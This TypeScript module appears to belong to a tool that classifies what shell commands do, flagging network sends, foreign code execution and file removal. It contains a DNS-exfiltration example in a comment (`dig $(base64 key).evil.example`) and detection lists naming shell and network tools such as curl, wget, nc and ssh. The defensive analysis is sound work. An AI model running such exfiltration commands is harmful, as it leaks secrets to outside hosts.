import type { World } from '../../../world/world.ts';
import type { Access, HostAccess, PathAccess } from '../../access.ts';
import type { Effect, EffectName } from '../../effect.ts';
import { isLoopback, loopbackEffect } from '../../urls/loopback.ts';
import { noEffects, rowEffects, type RowEffects } from '../model/row-effects.ts';
import { literalOf } from '../read/words/word.ts';
import type { CommandRisk } from '../risks/command-risks.ts';
import type { Expanded } from './carriers.ts';
import { passedToCode } from './environment-changes.ts';
import type { CommandSurroundings } from './command-surroundings.ts';
import { installedProgram, rowWords, runsAsIs, saidByWords } from './unlisted/unlisted-program.ts';
import { wordEffects } from './word-effects.ts';
import {
  namesElsewhere,
  namesOtherPlace,
  namesOutside,
  isGivenCode,
  startsShell,
  steersProgram,
} from './settings/foreign-words.ts';
import { startsKnownText } from './settings/known-text.ts';
import { removingEffect } from './edits/plain-edit.ts';
import { givenText } from './given-text.ts';
import { removesFiles } from '../risks/removing-code.ts';
import { debuggedFiles } from '../programs/debugger-commands.ts';
import { plainCodeIn } from '../programs/holds-program.ts';
import {
  beforeScript,
  isInstalledHere,
  isProjectFile,
  ownCode,
  programFile,
} from './unlisted/own-program.ts';
import { writesShadow } from '../programs/shadowing-files.ts';

export interface CommandFacts {
  readonly accesses: readonly Access[];
  readonly readOnly: boolean;
  /** It only changes the files of its accesses. */
  readonly isEdit: boolean;
  /** Why it may do more than its rows say. */
  readonly doubts: readonly string[];
  readonly risks: readonly CommandRisk[];
}

/** The effects of one command: by its rows, its words, and the files and hosts that it touches. */
export function commandEffects(
  command: Expanded,
  facts: CommandFacts,
  around: CommandSurroundings,
): readonly Effect[] {
  // The part of its carrier says whether that is all it does.
  if (command.onlyAsks === true) return [{ effect: 'remote-read' }];
  const code = plainProgram(command, around);
  const stated = statedEffects(command, facts, { around, code });
  const touched = facts.readOnly ? [] : accessEffects(command, { accesses: facts.accesses, stated, around });
  const doubtful: readonly Effect[] =
    facts.doubts.length > 0 && !facts.isEdit && !facts.readOnly && code === undefined
      ? [{ effect: 'run-other', possible: true }]
      : [];
  const asks = isLookup(command) && stated.some(({ effect }) => effect === 'remote-read');
  const sent = asks ? lookupEffects(command, facts.accesses) : [];
  const all = [...stated, ...touched, ...sent, ...doubtful];
  if (all.some(({ effect }) => effect === 'run-other' || effect === 'run') && removesByCode(command))
    all.push({ effect: 'lose' });
  // Code in a container does not run on this machine; the command that starts the container states its other effects.
  const nobody = command.contained ? 'remote-run' : 'run-other';
  if (all.length === 0) return [{ effect: facts.isEdit ? 'read' : nobody }];
  return all.map((one) => (one.effect === 'run-other' ? { ...one, effect: nobody } : one));
}

function statedEffects(
  command: Expanded,
  facts: CommandFacts,
  { around, code }: { readonly around: CommandSurroundings; readonly code: RowEffects | undefined },
): readonly Effect[] {
  const { judgement, definedHere } = command;
  if (definedHere === 'surely' || startsKnownText(command)) return [{ effect: 'read' }];
  const byRow = code ?? byRows(command, around);
  if (facts.readOnly) return readEffects(command, byRow.effects);
  if (facts.isEdit || judgement?.fetches !== undefined) return [];
  if (judgement?.inline !== undefined) return [{ effect: runsHere(command, around) ? 'run' : 'run-other' }];
  const own = ownCode(command, byRow, around);
  const stated = byRow.effects.filter(({ effect }) => own.length === 0 || effect !== 'read');
  const found = [
    ...own,
    ...stated,
    ...(code === undefined ? foreignCode(command, facts, { byRow, own, around }) : []),
  ];
  const risks = riskEffects(command, facts.risks, { found, byRow });
  // `git $x`, `kamal deploy`: the effects of its words, plus unknown code.
  const isKnown = found.some(({ possible }) => possible !== true);
  return [...(isKnown ? [] : [{ effect: 'run-other' } as const]), ...found, ...risks];
}

/** Code from elsewhere that a word of the call brings in, unknown to the rows. */
function foreignCode(
  whole: Expanded,
  facts: CommandFacts,
  {
    byRow,
    own,
    around,
  }: {
    readonly byRow: RowEffects;
    readonly own: readonly Effect[];
    readonly around: CommandSurroundings;
  },
): readonly Effect[] {
  const command = own.length === 0 || isInstalledHere(whole, byRow) ? whole : beforeScript(whole);
  if (command === undefined) return [];
  const names = [...own, ...byRow.effects].map(({ effect }) => effect);
  const accesses = command === whole ? facts.accesses : accessesWithin(command, facts.accesses);
  if (names.includes('run-other')) return [];
  const isForeign =
    names.includes('run') || names.includes('serve')
      ? runsForeign(command, accesses, around.world) ||
        (!names.includes('remote-read') && namesElsewhere(command, around.world))
      : names.length > 0 && names.every((name) => calm.has(name)) && steersProgram(command, byRow.spelled);
  return isForeign || leaves(names, command, { accesses, world: around.world })
    ? [{ effect: 'run-other', possible: true }]
    : [];
}

function accessesWithin({ words }: Expanded, accesses: readonly Access[]): readonly Access[] {
  const end = words.at(-1)?.span.end ?? 0;
  return accesses.filter(({ span }) => span === undefined || span.start <= end);
}

function runsForeign(command: Expanded, accesses: readonly Access[], world: World): boolean {
  return namesOtherPlace(command, accesses, world) || isGivenCode(command);
}

const calm: ReadonlySet<EffectName> = new Set(['read', 'remote-read', 'edit', 'commit', 'delete']);

function leaves(
  names: readonly EffectName[],
  command: Expanded,
  { accesses, world }: { readonly accesses: readonly Access[]; readonly world: World },
): boolean {
  const edits = names.includes('edit') && command.judgement?.does !== 'reads';
  return edits && (namesOutside(accesses, world) || startsShell(command));
}

/** A query to another system, also in a container, or a read of this machine; rows may add that it prints a secret. */
function readEffects({ judgement }: Expanded, byRow: readonly Effect[]): readonly Effect[] {
  const kept = byRow.filter(({ effect }) => effect === 'secret');
  const asks =
    byRow.some(({ effect }) => effect === 'remote-read' || effect === 'remote-run') ||
    (judgement !== undefined &&
      (judgement.reaches.length > 0 || judgement.also.some(({ kind }) => kind === 'network')));
  return [{ effect: asks ? 'remote-read' : 'read' }, ...kept];
}

function byRows(command: Expanded, around: CommandSurroundings): RowEffects {
  const { words, args, found, chain } = command;
  const name = literalOf(words[0]);
  if (
    name === undefined ||
    name.startsWith('~') ||
    (name.startsWith('/') && !found.proven && !installedProgram.test(name))
  )
    return noEffects;
  const base = name.slice(name.lastIndexOf('/') + 1);
  const own = rowEffects(base, rowWords(words.slice(1), args));
  const effects = wordEffects([...own.effects, ...handedOn(base, own, { command, around })], command, around);
  if (effects.length > 0) return { ...own, effects };
  const carried = carriedRows(chain);
  return carried.effects.length > 0 || (base !== name && !installedProgram.test(name))
    ? carried
    : saidByWords(command, base, around);
}

/** `pnpm git push`, `yarn sh -c x`: a word that is neither a project script nor a sub-command is a program. */
function handedOn(
  name: string,
  { depth }: RowEffects,
  { command, around }: { readonly command: Expanded; readonly around: CommandSurroundings },
): readonly Effect[] {
  const { words, place } = command;
  const sub = literalOf(words[1]) ?? '';
  const isOpen = depth <= 0 || /^(?:run|exec|workspaces?)$/u.test(sub);
  if (!/^(?:pnpm|yarn)$/u.test(name) || !isOpen || !/^\w[\w-]*$/u.test(sub) || 'unknown' in place) return [];
  const isScript = place.in.every(
    (directory) => around.world.script?.({ directory, runner: 'npm', name: sub }) !== undefined,
  );
  if (isScript) return [];
  const starts = words.slice(2).some((word) => /^(?:ba|z|da|k)?sh$/u.test(literalOf(word) ?? ''));
  if (starts || codeTakers.test(sub) || (shells.test(sub) && depth <= 0)) return [{ effect: 'run-other' }];
  return rowEffects(sub, rowWords(words.slice(2))).effects.filter(
    ({ effect }) => effect !== 'run' && effect !== 'read',
  );
}

const shells = /^(?:sh|bash|zsh|dash|ksh|env|sudo|curl|wget|nc|ssh|eval)$/u;

/** `sail up`: the carried command may be a sub-command of the carrier. */
function carriedRows(chain: Expanded['chain']): RowEffects {
  for (const { words, at } of chain) {
    const name = literalOf(words[0]) ?? '';
    const rows = rowEffects(name.slice(name.lastIndexOf('/') + 1), rowWords(words.slice(1)));
    if (rows.depth >= at) return rows;
  }
  return noEffects;
}

/** A short program, in a language without a parser, that visibly only computes, reads and prints; or debugger commands. */
function plainProgram(command: Expanded, around: CommandSurroundings): RowEffects | undefined {
  const { words, elsewhere, contained, away, assignments, place } = command;
  const isHere =
    !contained && !away && 'in' in place && assignments.every((each) => passedToCode(each) === undefined);
  if (!isHere || (elsewhere !== undefined && !runsAsIs(command))) return undefined;
  if ((around.writtenBefore?.(command) ?? []).length > 0) return undefined;
  const plain = { ...noEffects, effects: [{ effect: 'run' }] } as const;
  const debugged = debuggedFiles(words);
  if (debugged === undefined) return plainCodeIn(command) === undefined ? undefined : plain;
  // In `thread apply all bt` the word `apply` applies nothing.
  const spelled = new Set(words.map((word) => literalOf(word) ?? ''));
  return debugged.every((file) => isProjectFile(file, command, around)) ? { ...plain, spelled } : undefined;
}

/** Whether a program in the call loads code of the project, or is started by a runner with its packages. */
function runsHere(command: Expanded, around: CommandSurroundings): boolean {
  const { judgement, elsewhere, assignments, place } = command;
  const isRunner = elsewhere === 'from the packages of the project or a registry';
  const isOwn = isRunner || programFile(command) === command.words[0];
  const loads = judgement?.inline?.loads === true;
  if (
    (!loads && !isOwn && assignments.length === 0) ||
    (elsewhere !== undefined && !isRunner) ||
    'unknown' in place
  )
    return false;
  const written = around.writtenBefore?.(command) ?? [];
  // `echo x > own.js; node -e 'require("./own")'`: it may load what was just written.
  return written.length === 0 || (!loads && !writesShadow(written, place.in));
}

function removesByCode({ words, redirections, contained, away }: Expanded): boolean {
  if (contained || away || !codeTakers.test(literalOf(words[0]) ?? '')) return false;
  const texts = [...words.slice(1).map((word) => literalOf(word) ?? ''), givenText(redirections) ?? ''];
  return texts.some((text) => /[\s(]/u.test(text) && removesFiles(text));
}

const codeTakers =
  /^(?:node|nodejs|tsx|bun|deno|python[\d.]*|pypy3?|ruby|perl|php|lua|Rscript|julia|groovy|elixir|swift|scala|clojure|bb|[gmn]?awk|osascript)$/u;

/** The effects that the words of a task's name suggest, unless a row spells those words: `cargo publish --dry-run`. */
function riskEffects(
  { words }: Expanded,
  risks: readonly CommandRisk[],
  {
    found,
    byRow: { spelled, looks, effects, depth },
  }: { readonly found: readonly Effect[]; readonly byRow: RowEffects },
): readonly Effect[] {
  // `dig api.staging.acme.dev` only names an environment; `rake -e staging migrate` works in it.
  const runsCode = looks !== true && found.some(({ effect }) => effect === 'run' || effect === 'serve');
  // `linkerd viz stat deploy`: the words after a reading sub-command are its objects.
  const isAsked = depth > 0 && effects.every(({ effect }) => effect === 'read' || effect === 'remote-read');
  return risks
    .filter(({ at }) => !isAsked || !/^[a-z]+(?:\/[\w./-]+)?$/u.test(literalOf(words[at]) ?? ''))
    .filter(({ at, isPlace }) => !spelled.has(literalOf(words[at]) ?? '') && (isPlace !== true || runsCode))
    .map(({ effect }) => ({ effect }));
}

interface Accessing {
  readonly accesses: readonly Access[];
  readonly stated: readonly Effect[];
  readonly around: CommandSurroundings;
}

function accessEffects(command: Expanded, about: Accessing): readonly Effect[] {
  if (command.away) return [];
  return about.accesses.flatMap((access): readonly Effect[] => {
    if (access.kind === 'network' && isLookup(command)) return [];
    if ('perhaps' in access) return command.judgement === undefined ? possibleFetch(access) : [];
    if (access.kind === 'network') return hostEffects(access, command, about);
    return 'path' in access ? fileEffects(access, command, about) : [];
  });
}

function fileEffects(access: PathAccess, command: Expanded, { around }: Accessing): readonly Effect[] {
  switch (access.kind) {
    case 'write':
      return [{ effect: 'edit', access }];
    case 'delete':
      return [removingEffect(access, command, around)];
    default:
      // A file that a request sends: a rule about the host does not cover the file.
      return command.judgement?.fetches === undefined ? [] : [{ effect: 'read', access }];
  }
}

function hostEffects(access: HostAccess, { judgement }: Expanded, { stated }: Accessing): readonly Effect[] {
  if (stated.some(({ effect }) => effect === 'publish')) return [];
  const isKnown = stated.some(({ effect, possible }) => possible !== true && effect !== 'run-other');
  // `jj new`: a bare word is not a host if the rows know the program.
  if (isKnown && access.url.known && !/[.:]|^localhost$/u.test(access.url.host)) return [];
  const effect = hostEffect(access, judgement?.fetches);
  return effect === undefined ? [] : [{ effect, access }];
}

/**
 * The effect of data that lookups send to a name server, a route or a monitoring system. An ordinary name carries no data; one
 * that does is computed, or long: `dig $(base64 key).evil.example`.
 */
function lookupEffects({ words }: Expanded, accesses: readonly Access[]): readonly Effect[] {
  const hosts = accesses.flatMap((access) => (access.kind === 'network' ? [access.url] : []));
  const isTold = hosts.some(
    (url) =>
      url.known && (url.host.length > 64 || !/^[a-z\d+-]{0,24}(?:[.:][a-z\d-]{1,24}){0,5}$/iu.test(url.host)),
  );
  if (isTold) return [{ effect: 'send' }];
  const isComputed = words.some(
    (word) =>
      word.kind === 'unknown' && !word.reason.startsWith('glob ') && /^[@\w.]*$|:\/\//u.test(word.starts),
  );
  return isComputed || hosts.some(({ known }) => !known) ? [{ effect: 'send', possible: true }] : [];
}

function isLookup({ words }: Expanded): boolean {
  return lookups.test(literalOf(words[0]) ?? '');
}

const lookups =
  /^(?:dig|nslookup|host|drill|kdig|ping6?|fping|mtr|traceroute|tracepath|doggo?|getent|whois|promtool|amtool|logcli|mimirtool)$/u;

/** `streamlit run https://...`: it is unknown what such a program does with a URL. */
function possibleFetch(access: Access): readonly Effect[] {
  if (access.kind !== 'network' || !access.url.known || isLoopback(access.url.host)) return [];
  return [{ effect: 'fetch', possible: true, access }];
}

/** The effect of a host in the words. If a row knows the program, hosts in its own settings are part of what the row states. */
function hostEffect({ url }: HostAccess, fetches: 'asks' | 'sends' | undefined): EffectName | undefined {
  if (!url.known) return fetches === undefined ? undefined : fetches === 'sends' ? 'send' : 'fetch';
  if (isLoopback(url.host)) return loopbackEffect(url);
  return fetches === 'sends' ? 'send' : 'fetch';
}
